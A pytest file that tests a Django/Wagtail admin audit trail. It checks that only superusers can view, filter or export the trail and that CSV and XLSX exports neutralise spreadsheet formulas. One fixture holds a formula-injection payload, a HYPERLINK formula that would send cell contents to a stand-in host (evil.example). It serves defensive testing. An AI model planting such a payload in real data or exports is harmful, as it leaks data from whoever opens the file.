"""The audit trail in the admin (``campaigns.audit.report``): superusers read, filter and export it (CSV and XLSX,
no cell a spreadsheet would run); no other account sees any of it, here or in Wagtail's site history."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from campaigns.audit import trail
from campaigns.models import AuditEntry
from tests.admin_pages import refused
from tests.campaigns.factories import campaign

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
ROLES = ["product_user", "editor_user", "moderator_user", "analyst_user", "outsider_user"]
SITE_HISTORY = reverse("wagtailadmin_reports:site_history")


@pytest.fixture
def recorded(product_user):
    """A few entries: a launch by the product team of a campaign whose title is a formula, a failed sign-in."""
    target = campaign(title=FORMULA)
    trail.audit_record(trail.LAUNCH, target=target, user=product_user, data={"invitations": 12})
    trail.audit_record(trail.LOGIN_FAILED, target=type(product_user), label="-2+3", user=None, address="203.0.113.5")
    return target


def test_a_superuser_reads_and_filters_the_trail(client_for, admin_user, recorded):
    client = client_for(admin_user)
    page = client.get(reverse("audit:index")).content.decode()
    assert "Campagne lancée (invitations : 12)" in page and "203.0.113.5" in page
    filtered = client.get(reverse("audit:results"), {"action": trail.LOGIN_FAILED}).content.decode()
    assert "203.0.113.5" in filtered and "Campagne lancée" not in filtered
    by_address = client.get(reverse("audit:results"), {"address": "203.0.113"}).content.decode()
    assert "Connexion refusée" in by_address and "Campagne lancée" not in by_address


def test_the_csv_export_runs_no_formula(client_for, admin_user, recorded):
    response = client_for(admin_user).get(reverse("audit:index"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["Date et heure (UTC)", "Par", "Action", "Élément"]
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'-2+3" in cells and "Campagne lancée" in cells and "203.0.113.5" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_the_xlsx_export_holds_no_formula(client_for, admin_user, recorded):
    response = client_for(admin_user).get(reverse("audit:index"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_a_superuser_sees_the_trail_in_wagtails_site_history_too(client_for, admin_user, recorded):
    page = client_for(admin_user).get(SITE_HISTORY).content.decode()
    assert "Campagne lancée" in page and "Connexion refusée" in page


@pytest.mark.parametrize("role", ROLES)
def test_no_other_account_sees_any_of_the_trail(request, client_for, role, recorded):
    client = client_for(request.getfixturevalue(role))
    for url in (reverse("audit:index"), reverse("audit:results"), reverse("audit:index") + "?export=csv"):
        assert refused(client.get(url)), url
    for answer in (client.get(SITE_HISTORY), client.get(SITE_HISTORY, {"export": "csv"})):
        content = b"".join(answer.streaming_content) if answer.streaming else answer.content
        assert "Campagne lancée".encode() not in content and b"203.0.113.5" not in content
    home = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("audit:index") not in home


def test_the_reports_menu_offers_the_trail_to_superusers(client_for, admin_user):
    assert reverse("audit:index") in client_for(admin_user).get(reverse("wagtailadmin_home")).content.decode()


def test_every_entry_is_for_superusers_only(admin_user, product_user, recorded):
    assert AuditEntry.objects.viewable_by_user(admin_user).count() == AuditEntry.objects.count() >= 2
    assert not AuditEntry.objects.viewable_by_user(product_user).exists()
